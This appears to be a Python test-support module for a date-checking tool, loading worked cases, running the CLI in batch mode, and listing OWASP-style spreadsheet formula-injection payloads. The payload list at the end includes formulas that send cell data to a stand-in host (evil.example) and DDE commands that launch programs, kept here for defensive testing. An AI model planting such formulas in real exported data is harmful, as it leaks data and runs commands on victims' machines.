"""Shared by the engine's tests: the worked cases table, read once."""

from __future__ import annotations

import subprocess
import sys
import tomllib
from datetime import date
from typing import Any

from tests import ROOT

WORKED_CASES_PATH = ROOT / "checker" / "cases" / "worked_cases.toml"
DATE_KEYS = ("permit_issued", "permit_expires", "passport_expires", "on")


def worked_cases() -> list[dict[str, Any]]:
    """Every `[[case]]` of checker/cases/worked_cases.toml, in file order."""
    with WORKED_CASES_PATH.open("rb") as file:
        cases: list[dict[str, Any]] = tomllib.load(file)["case"]
    return cases


def case_dates(case: dict[str, Any]) -> dict[str, date]:
    """The case's four input dates, as keyword arguments of `checker.check`."""
    return {key: case[key] for key in DATE_KEYS}


def case_category(case: dict[str, Any]) -> str:
    return str(case.get("category", "unknown"))


def run_batch(*args: str) -> subprocess.CompletedProcess[str]:
    """`python -m checker batch ARGS --on 2026-11-26`, as a user runs it (never raises)."""
    return subprocess.run(
        [sys.executable, "-m", "checker", "batch", *args, "--on", "2026-11-26"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        encoding="utf-8",
        timeout=60,
        check=False,
    )


# OWASP's examples and the ones from the report, each starting with a formula trigger.
OWASP_PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&B2,"x")',
    "=cmd|' /C calc'!A0",
    "+2+3+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=", CONCATENATE(A2:E2)), "//a")',
    "\t=1+1",
    "\r=1+1",
    "=1+1",
]
